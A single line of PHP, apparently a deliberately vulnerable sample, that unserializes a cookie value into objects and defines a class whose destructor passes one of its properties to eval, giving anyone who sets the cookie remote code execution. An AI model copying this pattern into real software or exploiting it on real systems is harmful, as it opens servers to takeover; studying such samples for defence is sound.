<?php class X { function __destruct() { eval($this->c); } } $o = unserialize($_COOKIE["d"]);
